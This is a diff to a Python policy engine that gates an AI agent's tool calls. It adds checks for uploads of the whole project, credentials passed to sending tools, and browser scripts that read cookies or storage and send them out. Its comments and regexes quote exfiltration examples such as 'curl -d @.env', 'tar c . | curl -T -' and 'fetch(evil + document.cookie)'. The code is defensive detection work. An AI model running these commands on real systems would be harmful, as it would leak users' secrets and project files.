@@ -45,7 +45,7 @@ from urllib.parse import unquote, urlsplit
 
 from policy.engine import destructive, powershell
 from policy.engine.bash_types import BashAnalysis, SimpleCommand
-from policy.engine.commands import CRITICAL_FILES, SYSTEM_DIRS, critical_file, option_runs_program, venv_activate
+from policy.engine.commands import CRITICAL_FILES, SYSTEM_DIRS, credential_in, critical_file, option_runs_program, venv_activate
 from policy.engine.commands import NETWORK_FETCHERS, UNKNOWN_WORD
 from policy.engine.commands import PRIVILEGE as PRIVILEGE_NAMES
 from policy.engine.paths import (HARMLESS_WRITE_TARGETS, HOME_DIR, PATCH_HINT, glob_dir, home_of, is_inside,
@@ -168,6 +168,8 @@ REASON_ENGINE_ERROR = "engine error ({error}): denied, failing closed"
 REASON_BAD_URL = "the URL could not be read with certainty"
 REASON_INTERNAL_URL = "fetches from {host}, an address on this machine or its private network"
 REASON_RISKY_SQL = "database statement that {what}"
+REASON_SENDS_TREE = "sends the whole project out ({path}) through {tool}"
+REASON_SENDS_CREDENTIAL = "sends what looks like a credential ({what}) to {tool}"
 
 from policy.engine.types import ENGINE_ERROR_CHECK  # noqa: E402  (re-exported)
 
@@ -203,7 +205,7 @@ def _remember(memo: dict, key: Any, value: Any, limit: int = MEMO_LIMIT) -> None
 
 
 _RUNS_TEXT = frozenset({"eval", "source", "."})
-_CONTENT_PLAIN_ASKS = frozenset({"pipe_to_shell", "chmod_777"})   # asked as any risky edit is
+_CONTENT_PLAIN_ASKS = frozenset({"pipe_to_shell", "chmod_777", "sends_secret"})   # asked as any risky edit is
 # tools whose arguments are words for a model or a person (each tool call the subagent
 # then makes is decided on its own), and argument names that hold such words
 _PROSE_TOOLS = frozenset({"WebSearch", "Task", "Agent"})
@@ -225,7 +227,16 @@ _PROSE_TOOL = re.compile(r"issue|pull_request|comment|message|post|chat|slack|di
                          r"linear|jira|ticket|note|review|wiki|confluence|calendar|library|memory|thought|thinking|"
                          r"observation|knowledge|remember|recall", re.I)
 # a browser's page script (puppeteer_evaluate {"script": "document.title"}) is no shell
+# a tool that by its name sends local files elsewhere (an upload, a share, a sync, a backup)
+_SENDS_FILES = re.compile(r"upload|send|share|attach|publish|deploy|push|sync|backup|transfer|put_?object|export|mirror",
+                          re.I)
 _BROWSER_TOOL = re.compile(r"puppeteer|playwright|browser|chrome|selenium|webdriver", re.I)
+# what a page holds of the user's sessions, and the ways a page script sends it out
+_PAGE_SECRET = re.compile(r"document\s*\.\s*cookie|document\s*\[\s*['\"]cookie|localStorage|sessionStorage|indexedDB"
+                          r"|credentials\s*\.\s*get|cookieStore")
+_PAGE_SEND = re.compile(r"fetch\s*\(|XMLHttpRequest|sendBeacon|WebSocket|EventSource|\.src\s*=|\.href\s*="
+                        r"|location\s*=|location\s*\.\s*(?:assign|replace)|window\s*\.\s*open|\.submit\s*\(|\.action\s*="
+                        r"|import\s*\(|\$\.(?:ajax|get|post)|axios", re.I)
 _MEMO_TEXT = 1024   # texts up to this length have their pattern hits remembered
 # risky findings that may be a catastrophe the analysis could not rule out
 _UNSURE_CATASTROPHES = frozenset({"rm_recursive_unknown", "code_catastrophe_unknown"})
@@ -1236,7 +1247,17 @@ class _Evaluation:
             text = args_text(_written(self.args))
             # (source code, even a test's list of commands to refuse, is code: the same
             # file may call them in ways no pattern sees; asked, and denied in bypass)
-            return self.content_finding(self.text_findings(text, shell_shaped=True, data=False), text)
+            found = self.content_finding(self.text_findings(text, shell_shaped=True, data=False), text)
+            if found is None and self.content_risk is None:
+                # a line that sends a secret file, the environment or the tree out
+                # (a Makefile recipe curl -d @.env ...: make is a build, allowed where
+                # the write is): asked, as the command itself would be
+                leaves: list[str] = []
+                _string_leaves(_written(self.args), leaves)   # (each value as written: its lines)
+                line = next((x for x in map(destructive.sends_secret_line, leaves) if x is not None), None)
+                if line is not None:
+                    self.content_risk = ("sends_secret", f"sends a secret or the project out: {line}")
+            return found
         text = self.args_text()
         if self.tool == "WebFetch":
             # the address it opens; the prompt is words for a model
@@ -2038,8 +2059,26 @@ class _Evaluation:
                 return False
         return True
 
+    def sends_tree(self) -> str | None:
+        """The working directory, one above it or the home directory handed to another
+        tool that sends files out (mcp__gdrive__upload {"local_path": "."}, an S3 upload
+        with recursive): the whole project leaves, as tar c . | curl -T - would."""
+        if self.analysis is not None or self.is_read or self.tool[:1].isupper():
+            return None
+        if _SENDS_FILES.search(self.tool) is None:
+            return None
+        roots = [d for d in (self.work_dir, self.cwd) if d]
+        for p in self.file_paths():
+            if p == "/" or (self.home and p == self.home) or any(is_inside(d, p) for d in roots):
+                return p
+        return None
+
     def risky_or_outside(self) -> Decision | None:
         a = self.analysis
+        tree = self.sends_tree() if a is None else None
+        if tree is not None:
+            return self.decide(ASK, REASON_SENDS_TREE.format(path=tree, tool=self.tool), "risky_command", "sends_tree",
+                               details={"paths": [tree]})
         if a is not None:
             if a.risky:
                 f = a.risky[0]
@@ -2130,7 +2169,14 @@ class _Evaluation:
         verdict = self.s.mode_defaults[row][self.mode]
         if verdict == "llm":
             return self.decide(ASK, REASON_LLM.format(command=self.command), "mode_default", row, llm=True)
-        if row == "other_tools" and verdict == ALLOW and self.tool == "WebFetch" and "url" in self.args:
+        sent = self.sent_credential() if row in ("other_tools", "read_tools") and verdict == ALLOW \
+            and self.mode != BYPASS else None
+        if sent is not None:
+            # a key in an issuer's format, a URL's password or secret-named parameter
+            # handed to a tool that sends it on (WebFetch's address, an MCP post): the
+            # secret is leaving, asked as curl -d @.env is (BYPASS skips it, as it skips that)
+            return self.decide(ASK, REASON_SENDS_CREDENTIAL.format(what=sent, tool=self.tool), "mode_default", row)
+        elif row == "other_tools" and verdict == ALLOW and self.tool == "WebFetch" and "url" in self.args:
             host = url_host(self.args.get("url"))
             if host is None:
                 return self.decide(ASK, REASON_BAD_URL + f": {str(self.args.get('url'))[:200]}", "mode_default", row)
@@ -2184,6 +2230,25 @@ class _Evaluation:
             if skipped is not None:
                 reason = REASON_BYPASS_SKIPPED.format(what=_ROW_WHAT_ANYWHERE.get(row, row), reason=skipped.reason)
         return self.decide(verdict, reason, "mode_default", row)
+
+    def sent_credential(self) -> str | None:
+        """A literal credential in the arguments of a tool that sends them somewhere:
+        WebFetch, WebSearch, an MCP resource's address, an MCP or custom tool (lower-case
+        or mcp__ names); the agent's own built-ins (TodoWrite, Task...) keep their words."""
+        if not (self.tool in ("WebFetch", "WebSearch", "ReadMcpResourceTool") or not self.tool[:1].isupper()):
+            return None
+        leaves: list[str] = []
+        _string_leaves(self.args, leaves)
+        browser = _BROWSER_TOOL.search(self.tool) is not None
+        for v in leaves:
+            hit = credential_in(v)
+            if hit is not None:
+                return hit
+            if browser and _PAGE_SECRET.search(v) and _PAGE_SEND.search(v):
+                # a page script that reads the session's cookies or storage and makes a
+                # request (fetch(evil + document.cookie), an image's src, a beacon)
+                return _PAGE_SECRET.search(v).group(0)
+        return None
 
     def risky_sql(self) -> str | None:
         """What a database tool's SQL does that a person should see first (destructive.risky_sql)."""
